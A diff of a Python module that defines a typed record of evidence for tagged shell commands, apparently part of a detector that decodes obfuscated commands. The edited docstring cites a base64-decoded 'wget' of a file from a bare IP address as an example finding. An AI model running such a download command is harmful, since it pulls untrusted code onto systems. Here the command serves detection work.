@@ -27,15 +27,17 @@ _TAG_NAMESPACE = UUID("a2f1c3b4-7d58-5e0f-8c1b-3b6a52d0e901")
 class CommandEvidence(TypedDict):
     """What proves a tag on a command: a capped quotation, where it stands, and what was undone to see it.
 
-    ``start`` and ``end`` are byte offsets into the UTF-8 form of the original line.
+    ``start`` and ``end`` are byte offsets into the UTF-8 form of the original line. Where a rule names a command, they
+    are that command's, ``command`` is its program and arguments as the shell would see them, and ``decoded`` has the
+    layers that were taken off to see it, the outermost first: ``base64: wget http://203.0.113.7/x``.
     """
 
     matched: str
     start: int
     end: int
     terms: list[str]
-    decoded: NotRequired[list[str]]
     command: NotRequired[str]
+    decoded: NotRequired[list[str]]
 
 
 class TextEvidence(TypedDict):
